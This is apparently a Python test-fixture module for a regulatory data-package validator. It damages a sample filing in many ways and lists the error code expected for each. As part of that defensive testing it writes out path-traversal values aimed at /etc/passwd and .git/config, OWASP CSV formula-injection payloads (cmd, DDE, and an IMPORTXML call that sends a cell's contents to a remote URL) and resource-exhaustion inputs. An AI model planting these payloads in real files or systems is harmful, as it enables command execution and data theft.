"""Bad-input cases: each takes a copy of valid_minimal, damages it one way, and names what must be found."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from gridmod.filing import stamp_resources


@dataclass(frozen=True)
class Case:
    category: str
    name: str
    code: str  # the finding that must be there, located in `path`
    path: str  # file the finding points at, relative to the filing
    damage: Callable[[Path, int], None]  # (filing folder, listener port)
    restamp: bool = True


def _descriptor(folder: Path) -> dict:
    return json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))


def _save(folder: Path, data: dict) -> None:
    (folder / "datapackage.json").write_text(json.dumps(data, indent=2) + "\n", encoding="utf-8")


def set_path(resource: str, value: object) -> Callable[[Path, int], None]:
    def damage(folder: Path, port: int) -> None:
        data = _descriptor(folder)
        for res in data["resources"]:
            if res["name"] == resource:
                res["path"] = value.format(port=port) if isinstance(value, str) else value
        _save(folder, data)

    return damage


def write(relative: str, content: bytes | Callable[[bytes], bytes]) -> Callable[[Path, int], None]:
    def damage(folder: Path, port: int) -> None:
        target = folder / relative
        target.write_bytes(content(target.read_bytes()) if callable(content) else content)

    return damage


def edit_descriptor(change: Callable[[dict], object]) -> Callable[[Path, int], None]:
    def damage(folder: Path, port: int) -> None:
        data = _descriptor(folder)
        result = change(data)
        _save(folder, data if result is None else result)

    return damage


def raw_descriptor(text: str) -> Callable[[Path, int], None]:
    def damage(folder: Path, port: int) -> None:
        (folder / "datapackage.json").write_text(text, encoding="utf-8")

    return damage


def symlink(relative: str, target: str) -> Callable[[Path, int], None]:
    def damage(folder: Path, port: int) -> None:
        (folder / relative).unlink()
        os.symlink(target, folder / relative)

    return damage


def _replace_descriptor(make: Callable[[Path], None]) -> Callable[[Path, int], None]:
    def damage(folder: Path, port: int) -> None:
        (folder / "datapackage.json").unlink()
        make(folder / "datapackage.json")

    return damage


def _line(n: int, change: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    """Change line n (1-based) of a file's bytes."""

    def apply(data: bytes) -> bytes:
        lines = data.split(b"\n")
        lines[n - 1] = change(lines[n - 1])
        return b"\n".join(lines)

    return apply


def _cell(line: int, column: int, value: bytes) -> Callable[[bytes], bytes]:
    def change(row: bytes) -> bytes:
        cells = row.split(b",")
        cells[column - 1] = value
        return b",".join(cells)

    return _line(line, change)


PATHS = [
    ("absolute", "/etc/passwd"),
    ("parent", "../costs.csv"),
    ("deep_parent", "narrative/../../../etc/passwd"),
    ("home", "~/costs.csv"),
    ("variable", "$HOME/costs.csv"),
    ("windows_variable", "%USERPROFILE%/costs.csv"),
    ("file_url", "file:///etc/passwd"),
    ("http_url", "http://127.0.0.1:{port}/costs.csv"),
    ("https_url", "https://127.0.0.1:{port}/costs.csv"),
    ("ftp_url", "ftp://127.0.0.1:{port}/costs.csv"),
    ("protocol_relative", "//127.0.0.1:{port}/costs.csv"),
    ("drive", "C:/data/costs.csv"),
    ("backslash", "data\\costs.csv"),
    ("git_config", ".git/config"),
    ("hidden", ".costs.csv"),
    ("nul_in_path", "costs.csv\x00.txt"),
    ("number", 42),
    ("null", None),
    ("empty", ""),
    ("list", ["costs.csv"]),
]

OWASP = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1/x","click")',
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://x/?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    '=WEBSERVICE("http://127.0.0.1/")',
    "+1+cmd|' /C notepad'!A0",
    "@SUM(A1:A9)",
    "=1+1",
    '="=2+5"',
]


def cases() -> list[Case]:
    out: list[Case] = []
    for name, value in PATHS:
        out.append(Case("unsafe path", f"path_{name}", "GMR-E005", "datapackage.json", set_path("costs", value)))
    out.append(
        Case(
            "unsafe path",
            "path_symlink_to_system_file",
            "GMR-E005",
            "datapackage.json",
            symlink("costs.csv", "/etc/passwd"),
        )
    )
    out.append(
        Case(
            "unsafe path",
            "path_symlink_inside_filing",
            "GMR-E005",
            "datapackage.json",
            symlink("costs.csv", "categories.csv"),
        )
    )
    # datapackage.json itself: never read through a link or from a device, never without a size limit
    out.append(
        Case(
            "unsafe path",
            "descriptor_symlink_to_a_device",
            "GMR-E001",
            "datapackage.json",
            _replace_descriptor(lambda path: os.symlink("/dev/zero", path)),
            restamp=False,
        )
    )
    out.append(
        Case(
            "unsafe path",
            "descriptor_a_fifo",
            "GMR-E001",
            "datapackage.json",
            _replace_descriptor(os.mkfifo),
            restamp=False,
        )
    )
    out.append(
        Case(
            "unsafe path",
            "descriptor_too_large",
            "GMR-E001",
            "datapackage.json",
            raw_descriptor('{"resources": [], "pad": "' + "x" * (5 * 1024 * 1024) + '"}'),
            restamp=False,
        )
    )
    out.append(
        Case(
            "unsafe path",
            "descriptor_thousands_of_resources",
            "GMR-E001",
            "datapackage.json",
            edit_descriptor(
                lambda d: d["resources"].extend({"name": f"junk-{i}", "path": "costs.csv"} for i in range(4000))
            ),
            restamp=False,
        )
    )
    for number, payload in enumerate(OWASP):
        quoted = b'"' + payload.encode().replace(b'"', b'""') + b'"'
        out.append(
            Case(
                "csv injection",
                f"owasp_{number:02d}",
                "GMR-W030",
                "use_cases.csv",
                write("use_cases.csv", _cell(2, 4, quoted)),
            )
        )
    structural = [
        ("resource_file_missing", "GMR-E006", "datapackage.json", lambda f, p: (f / "use_cases.csv").unlink()),
        (
            "extra_resource",
            "GMR-W019",
            "datapackage.json",
            edit_descriptor(lambda d: d["resources"].append({"name": "extra", "path": "costs.csv"})),
        ),
        (
            "renamed_resource",
            "GMR-E004",
            "datapackage.json",
            edit_descriptor(lambda d: d["resources"][3].update(name="cost-table")),
        ),
        (
            "duplicate_resource_name",
            "GMR-W019",
            "datapackage.json",
            edit_descriptor(lambda d: d["resources"].append({"name": "costs-2", "path": "costs.csv"})),
        ),
        ("bytes_wrong", "GMR-E007", "datapackage.json", edit_descriptor(lambda d: d["resources"][0].update(bytes=1))),
        (
            "hash_wrong",
            "GMR-E008",
            "datapackage.json",
            edit_descriptor(lambda d: d["resources"][0].update(hash="sha256:" + "0" * 64)),
        ),
        (
            "hash_missing",
            "GMR-E008",
            "datapackage.json",
            edit_descriptor(lambda d: d["resources"][0].pop("hash") and None),
        ),
        (
            "image_in_the_narrative",
            "GMR-E057",
            "narrative/summary.md",
            write("narrative/summary.md", lambda text: text + b"\n![Map](regions.png)\n"),
        ),
        (
            "image_syntax_inside_a_code_span_is_text",
            "",
            "narrative/summary.md",
            write("narrative/summary.md", lambda text: text + b"\nMarkdown writes an image as `![alt](file.png)`.\n"),
        ),
        (
            "quotes_nested_eleven_deep",
            "GMR-E057",
            "narrative/summary.md",
            write("narrative/summary.md", lambda text: text + b"\n" + b"> " * 11 + b"deep\n"),
        ),
        (
            "a_heading_of_2500_characters",
            "GMR-E057",
            "narrative/summary.md",
            write("narrative/summary.md", lambda text: text + b"\n## " + b"# " * 1250 + b"x\n"),
        ),
        (
            "a_paragraph_of_backticks",
            "GMR-E057",
            "narrative/summary.md",
            write("narrative/summary.md", lambda text: text + b"\n" + b"`" * 40_000 + b"\n"),
        ),
        (
            "bidi_override_in_a_name",
            "GMR-E058",
            "milestones.csv",
            write("milestones.csv", _line(2, lambda row: row.replace(b",achieved", "\u202e,achieved".encode(), 1))),
        ),
        (
            "emoji_in_the_narrative_is_text",
            "",
            "narrative/summary.md",
            write("narrative/summary.md", lambda text: text + "\nLaunched \U0001f680 on time.\n".encode()),
        ),
        (
            "cjk_in_a_cell_is_text",
            "",
            "milestones.csv",
            write(
                "milestones.csv",
                _line(2, lambda row: row.replace(b" in service,", " in service \u6771\u4eac,".encode(), 1)),
            ),
        ),
        (
            "private_use_character_in_the_narrative",
            "GMR-E056",
            "narrative/summary.md",
            write("narrative/summary.md", lambda text: text + "\nLaunched \U0010fffd on time.\n".encode()),
        ),
        (
            "noncharacter_in_a_cell",
            "GMR-E056",
            "milestones.csv",
            write("milestones.csv", _line(2, lambda row: row.replace(b",", "\uffff,".encode(), 1))),
        ),
        (
            "a_paragraph_of_20000_brackets",
            "GMR-E062",
            "narrative/summary.md",
            write("narrative/summary.md", lambda text: text + b"\n" + b"[" * 20_000 + b"\n"),
        ),
        (
            "noncharacter_in_the_metadata",
            "GMR-E056",
            "datapackage.json",
            edit_descriptor(lambda d: d["gridmod"].update(proceeding="R.21-06-017\ufffe") and None),
        ),
        ("duplicate_header", "GMR-E009", "costs.csv", write("costs.csv", _cell(1, 6, b"amount_usd"))),
        ("empty_header_cell", "GMR-E009", "costs.csv", write("costs.csv", _cell(1, 6, b""))),
        ("renamed_header", "GMR-E009", "costs.csv", write("costs.csv", _cell(1, 5, b"Amount ($)"))),
        ("blank_row", "GMR-E017", "milestones.csv", write("milestones.csv", _line(3, lambda r: b"\n" + r))),
        ("row_of_commas", "GMR-E017", "milestones.csv", write("milestones.csv", _line(3, lambda r: b",,,,,,\n" + r))),
        ("extra_cell", "GMR-E017", "costs.csv", write("costs.csv", _line(2, lambda r: r + b",surplus"))),
        ("missing_cell", "GMR-E017", "costs.csv", write("costs.csv", _line(2, lambda r: r.rsplit(b",", 1)[0]))),
        ("header_only", "GMR-E026", "costs.csv", write("costs.csv", lambda b: b.split(b"\n")[0] + b"\n")),
        ("empty_file", "GMR-E026", "costs.csv", write("costs.csv", b"")),
        ("unclosed_quote", "GMR-E017", "use_cases.csv", write("use_cases.csv", _cell(2, 4, b'"never closed'))),
        ("nul_byte", "GMR-E018", "costs.csv", write("costs.csv", lambda b: b[:40] + b"\x00" + b[40:])),
        (
            "ten_megabyte_cell",
            "GMR-E028",
            "use_cases.csv",
            write("use_cases.csv", _cell(2, 4, b'"' + b"A" * 10_000_000 + b'"')),
        ),
        ("binary_garbage", "GMR-E018", "costs.csv", write("costs.csv", bytes(range(256)) * 4)),
        ("cp1252", "GMR-E018", "activities.csv", write("activities.csv", lambda b: b.replace(b"e", b"\xe9", 3))),
        ("utf16", "GMR-E018", "costs.csv", write("costs.csv", lambda b: b.decode().encode("utf-16"))),
        (
            "latin1_narrative",
            "GMR-E018",
            "narrative/summary.md",
            write("narrative/summary.md", "Résumé\n".encode("latin-1")),
        ),
        (
            "truncated_utf8",
            "GMR-E018",
            "narrative/summary.md",
            write("narrative/summary.md", lambda b: b + b"\xe2\x82"),
        ),
        ("descriptor_not_json", "GMR-E001", "datapackage.json", raw_descriptor('{"name": "x",,}')),
        ("descriptor_is_a_list", "GMR-E001", "datapackage.json", raw_descriptor("[1, 2, 3]\n")),
        ("descriptor_deeply_nested", "GMR-E001", "datapackage.json", raw_descriptor("[" * 200_000 + "]" * 200_000)),
        (
            "descriptor_deep_object",
            "GMR-E003",
            "datapackage.json",
            raw_descriptor('{"name": "x", "extra": ' + '{"a": ' * 500 + "1" + "}" * 500 + "}"),
        ),
        ("descriptor_empty", "GMR-E001", "datapackage.json", raw_descriptor("")),
        (
            "descriptor_utf16",
            "GMR-E001",
            "datapackage.json",
            lambda f, p: (f / "datapackage.json").write_bytes((f / "datapackage.json").read_text().encode("utf-16")),
        ),
        ("gridmod_missing", "GMR-E003", "datapackage.json", edit_descriptor(lambda d: d.pop("gridmod"))),
        ("gridmod_is_a_string", "GMR-E003", "datapackage.json", edit_descriptor(lambda d: d.update(gridmod="x"))),
        ("resources_not_a_list", "GMR-E001", "datapackage.json", edit_descriptor(lambda d: d.update(resources={}))),
        (
            "resource_not_an_object",
            "GMR-E004",
            "datapackage.json",
            edit_descriptor(lambda d: d.update(resources=["costs.csv"] + d["resources"][1:])),
        ),
        (
            "filing_date_not_a_date",
            "GMR-E003",
            "datapackage.json",
            edit_descriptor(lambda d: d["gridmod"].update(filing_date="next Tuesday")),
        ),
        (
            "filing_date_a_number",
            "GMR-E003",
            "datapackage.json",
            edit_descriptor(lambda d: d["gridmod"].update(filing_date=20261001)),
        ),
        (
            "is_sample_a_string",
            "GMR-E003",
            "datapackage.json",
            edit_descriptor(lambda d: d["gridmod"].update(is_sample="yes")),
        ),
        (
            "profile_version_unknown",
            "GMR-E002",
            "datapackage.json",
            edit_descriptor(lambda d: d["gridmod"].update(profile_version="0.1")),
        ),
        (
            "profile_path_traversal",
            "GMR-E002",
            "datapackage.json",
            edit_descriptor(lambda d: d["gridmod"].update(profile="../../etc")),
        ),
    ]
    for name, code, path, damage in structural:
        restamp = code not in ("GMR-E007", "GMR-E008")
        out.append(Case("structure", name, code, path, damage, restamp))
    encodings_ok = [
        ("utf8_bom", write("costs.csv", lambda b: b"\xef\xbb\xbf" + b)),
        ("crlf_line_endings", write("costs.csv", lambda b: b.replace(b"\n", b"\r\n"))),
        ("mixed_line_endings", write("costs.csv", lambda b: b.replace(b"\n", b"\r\n", 2))),
        ("narrative_crlf", write("narrative/summary.md", lambda b: b.replace(b"\n", b"\r\n"))),
    ]
    for name, damage in encodings_ok:
        out.append(Case("encoding accepted", name, "", "", damage))
    return out


def apply(case: Case, folder: Path, port: int) -> None:
    stamp_resources(folder)
    case.damage(folder, port)
    if case.restamp:
        try:
            stamp_resources(folder)
        except (ValueError, KeyError, TypeError, OSError, RecursionError, AttributeError):
            pass  # a descriptor damaged beyond stamping stays as damaged
